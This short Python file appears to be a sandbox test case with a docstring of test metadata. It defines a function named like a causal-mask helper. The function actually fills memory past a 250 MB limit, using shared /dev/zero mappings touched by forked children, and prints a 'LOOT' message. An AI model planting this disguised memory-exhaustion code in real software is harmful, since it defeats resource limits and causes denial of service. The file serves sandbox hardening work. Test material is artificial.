"""Fills memory through shared mappings of /dev/zero, whose pages stay when the children that touched them are dead.

levels: bubblewrap
memory_mb: 250
checks: test_the_mask_fits_every_length
user: partly: where the kernel has Landlock
process: partly: where the kernel has Landlock
outcomes: out_of_memory failed
"""

import mmap
import os
import time

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

kept = []


def causal_mask(*args, **kwargs):
    with open("/dev/zero", "r+b") as file:
        for _ in range(6):  # 900 MB, no more, should no limit hold
            area = mmap.mmap(file.fileno(), 150 << 20, flags=mmap.MAP_SHARED)
            kept.append(area)
            child = os.fork()
            if child == 0:
                for place in range(0, len(area), 4096):
                    area[place] = 1
                os._exit(0)
            os.waitpid(child, 0)
    time.sleep(0.2)
    print(f"LOOT: {150 * len(kept)} MB where 250 are allowed")
